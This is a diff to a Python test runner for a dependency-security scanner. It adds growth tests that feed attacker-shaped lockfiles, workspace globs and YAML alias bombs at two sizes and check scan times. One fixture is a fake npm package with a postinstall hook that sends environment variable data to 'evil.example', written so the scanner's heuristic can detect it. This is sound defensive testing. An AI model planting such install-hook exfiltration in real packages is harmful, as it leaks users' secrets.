@@ -1,10 +1,10 @@
 #!/usr/bin/env python3
 """Run the whole hostile suite and print what held.
 
-    python scripts/hostile-suite.py            # everything (about a minute on two busy cores)
+    python scripts/hostile-suite.py            # everything (about two minutes on two busy cores)
     python scripts/hostile-suite.py --quick    # the pytest part only
 
-Two parts:
+Three parts:
 
 1. ``tests/hostile`` under pytest, one line per class of attack: planted symlinks (an ``.npmrc``,
    ``/proc/self/environ``, a private key, ``/dev/zero``), names that are not UTF-8, parse errors
@@ -16,6 +16,11 @@ Two parts:
    SIGKILL and SIGTERM at spread-out moments; after each, the report is either absent or whole
    (valid JSON), and after SIGTERM no temporary file is left (SIGKILL cannot clean up: any
    ``.*.tmp`` it leaves is counted and shown, the report itself is never partial).
+3. Growth (decision 0116): one file an attacker controls, written at 100,000 and 1,000,000
+   characters (workspace globs, ``**/**/...``, yarn headers, semver ``||`` and hyphen ranges,
+   js-yaml numbers, YAML aliases, a package's white space under ``-heuristic``...); the scan
+   of the larger may take at most 15 times the smaller's wall time plus a second (linear is
+   10 times; quadratic would be 100) and must end (60 s).
 
 Exit status 0 when everything held, 1 otherwise. Needs Linux (``/proc``, ``RLIMIT_FSIZE``).
 """
@@ -31,6 +36,7 @@ import sys
 import tempfile
 import time
 import xml.etree.ElementTree as ET
+from collections.abc import Callable
 from pathlib import Path
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -40,7 +46,7 @@ GROUPS = {
     "test_render_hostile": "reports cannot be forged (property tests on every renderer)",
     "test_report_writes": "report writes: disk full (RLIMIT_FSIZE), symlinks, auto, stops",
     "test_signals": "SIGTERM / SIGINT during a parallel scan",
-    "test_bounded": "bounded work: globs, YAML alias bombs, limits",
+    "test_bounded": "bounded work: globs, YAML alias bombs, limits, ratios of sizes (0116)",
     "test_rule_ids": "rule ids and titles, --id as a file name",
     "test_input_readers": "every input reader fed garbage: no traceback, no planted bytes echoed",
     "test_yaml_line_breaks": "characters YAML readers disagree on (NEL, LS, PS, BOM) refused",
@@ -180,6 +186,192 @@ def live_kills() -> bool:
     return all_ok
 
 
+_GROWTH_RULE = {
+    "schema_version": "1.0.0",
+    "rules": [
+        {
+            "id": "GROWTH-1",
+            "title": "Growth",
+            "kind": "compromised-release",
+            "ecosystem": "npm",
+            "severity": "high",
+            "package_rules": [{"package_name": "evil", "affected_versions": ["1.0.0"]}],
+        }
+    ],
+}
+_DECLARED = json.dumps({"name": "p", "dependencies": {"evil": "1.0.0"}})
+_PNPM_TAIL = (
+    "importers:\n  .:\n    dependencies:\n      evil:\n        specifier: 1.0.0\n"
+    "        version: 1.0.0\n\npackages:\n\n  evil@1.0.0:\n    resolution: {integrity: sha512-x}\n"
+    "\nsnapshots:\n\n  evil@1.0.0: {}\n"
+)
+_BERRY_HEAD = (
+    '__metadata:\n  version: 8\n  cacheKey: 10c0\n\n"p@workspace:.":\n  version: 0.0.0-use.local\n'
+    '  resolution: "p@workspace:."\n  dependencies:\n    evil: "npm:^1.0.0"\n'
+    "  languageName: unknown\n  linkType: soft\n\n"
+)
+_BERRY_ENTRY = (
+    '  version: 1.0.0\n  resolution: "evil@npm:1.0.0"\n  checksum: 10c0/abc\n'
+    "  languageName: node\n  linkType: hard\n"
+)
+
+
+def _manifest(**fields: object) -> str:
+    return json.dumps({"name": "p", "dependencies": {"evil": "1.0.0"}, **fields})
+
+
+# shape -> (files of the project for a size in characters, extra arguments)
+GROWTH: dict[str, tuple[Callable[[int], dict[str, str]], list[str]]] = {
+    "package.json workspaces, '*/xN' globs, 200 members": (
+        lambda n: {
+            "package.json": _manifest(workspaces=[f"*/x{i}" for i in range(n // 8)]),
+            **{f"m/p{i}/package.json": "{}" for i in range(200)},
+        },
+        [],
+    ),
+    "package.json workspaces, listed paths": (
+        lambda n: {"package.json": _manifest(workspaces=[f"m/p{i}" for i in range(n // 10)])},
+        [],
+    ),
+    "package.json workspaces, one '**/**/...' glob": (
+        lambda n: {"package.json": _manifest(workspaces=["**/" * (n // 3) + "x"])},
+        [],
+    ),
+    "pnpm-workspace.yaml packages, 'pN/**' globs": (
+        lambda n: {
+            "pnpm-workspace.yaml": "packages:\n"
+            + "".join(f"  - p{i}/**\n" for i in range(n // 12)),
+            "package.json": _DECLARED,
+        },
+        [],
+    ),
+    "pnpm-workspace.yaml catalog value 0xCC...G": (
+        lambda n: {
+            "pnpm-workspace.yaml": f"catalog:\n  evil: 0x{'C' * n}G\n",
+            "package.json": _DECLARED,
+        },
+        [],
+    ),
+    "pnpm-workspace.yaml anchors and aliases": (
+        lambda n: {
+            "pnpm-workspace.yaml": "catalog: &a\n"
+            + "".join(f"  d{i}: ^1.0.0\n" for i in range(n // 32))
+            + "catalogs:\n"
+            + "".join(f"  c{i}: *a\n" for i in range(n // 32)),
+            "package.json": _DECLARED,
+        },
+        [],
+    ),
+    "pnpm-lock.yaml anchors and aliases": (
+        lambda n: {
+            "pnpm-lock.yaml": "lockfileVersion: '9.0'\nx: &a ["
+            + ",".join(["1"] * (n // 4))
+            + "]\ny: ["
+            + ",".join(["*a"] * (n // 4))
+            + "]\n"
+            + _PNPM_TAIL
+        },
+        [],
+    ),
+    "pnpm-lock.yaml version with (peer) suffixes": (
+        lambda n: {
+            "pnpm-lock.yaml": "lockfileVersion: '9.0'\n\n"
+            + _PNPM_TAIL.replace("version: 1.0.0", "version: 1.0.0" + "(a@1)" * (n // 5))
+        },
+        [],
+    ),
+    "yarn.lock (berry) key with a run of spaces": (
+        lambda n: {
+            "yarn.lock": _BERRY_HEAD
+            + '"evil@npm:^1.0.0, evil@npm:^1.0.0'
+            + " " * n
+            + 'x":\n'
+            + _BERRY_ENTRY
+        },
+        [],
+    ),
+    "yarn.lock (classic) entry with N descriptors": (
+        lambda n: {
+            "yarn.lock": "# yarn lockfile v1\n\n\n"
+            + ", ".join(f"evil@^1.0.{i}" for i in range(n // 16))
+            + ':\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/evil/-/evil-1.0.0.tgz"\n'
+        },
+        [],
+    ),
+    "package.json range '1 || 1 || ...'": (
+        lambda n: {
+            "package.json": json.dumps({"dependencies": {"evil": " || ".join(["1"] * (n // 5))}})
+        },
+        [],
+    ),
+    "package.json range '1.0.0 - 1.0.0 - ...'": (
+        lambda n: {
+            "package.json": json.dumps({"dependencies": {"evil": " - ".join(["1.0.0"] * (n // 8))}})
+        },
+        [],
+    ),
+    ".yarnrc.yml anchors and aliases": (
+        lambda n: {
+            ".yarnrc.yml": "x: &a ["
+            + ",".join(["1"] * (n // 8))
+            + "]\ny: ["
+            + ",".join(["*a"] * (n // 8))
+            + "]\n",
+            "package.json": _DECLARED,
+        },
+        [],
+    ),
+    "-heuristic: a package's 'Object.keys(process.env).find(' and spaces": (
+        lambda n: {
+            "package.json": json.dumps({"name": "p", "dependencies": {"x": "1.0.0"}}),
+            "node_modules/x/package.json": json.dumps(
+                {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node index.js"}}
+            ),
+            "node_modules/x/index.js": 'const h = require("https");\n'
+            "const k = Object.keys(process.env).find(" + " " * n + ")\n"
+            'h.request({hostname: "evil.example"}).end(JSON.stringify(k));\n',
+        },
+        ["-heuristic"],
+    ),
+}
+
+
+def _timed_scan(root: Path, files: dict[str, str], extra: list[str]) -> tuple[float, int | str]:
+    for rel, text in files.items():
+        (root / rel).parent.mkdir(parents=True, exist_ok=True)
+        (root / rel).write_text(text)
+    cmd = [
+        sys.executable, "-m", "gouvernante", "-rules", str(root.parent / "rule.json"),
+        "-dir", str(root), *extra,
+    ]  # fmt: skip
+    started = time.perf_counter()
+    try:
+        code: int | str = subprocess.run(
+            cmd, check=False, capture_output=True, timeout=60
+        ).returncode
+    except subprocess.TimeoutExpired:
+        code = "timed out"
+    return time.perf_counter() - started, code
+
+
+def growth() -> bool:
+    """Each shape at 100,000 and 1,000,000 characters: linear (a ratio of the two, same run)."""
+    print("== growth: one hostile file at 100,000 and 1,000,000 characters (wall time)")
+    all_ok = True
+    with tempfile.TemporaryDirectory() as tmp:
+        (Path(tmp) / "rule.json").write_text(json.dumps(_GROWTH_RULE))
+        for number, (label, (make, extra)) in enumerate(GROWTH.items()):
+            small, small_code = _timed_scan(Path(tmp) / f"s{number}", make(100_000), extra)
+            large, large_code = _timed_scan(Path(tmp) / f"l{number}", make(1_000_000), extra)
+            ok = large_code != "timed out" and large <= 15 * small + 1.0
+            all_ok &= ok
+            print(
+                f"  {'ok  ' if ok else 'FAIL'} {small:5.2f} s -> {large:5.2f} s"
+                f" (exit {small_code}, {large_code}) {label}"
+            )
+    return all_ok
+
+
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     parser.add_argument("--quick", action="store_true", help="the pytest part only")
@@ -190,6 +382,7 @@ def main() -> int:
     ok = run_pytest()
     if not args.quick:
         ok &= live_kills()
+        ok &= growth()
     print("ALL HELD" if ok else "SOMETHING DID NOT HOLD")
     return 0 if ok else 1
 
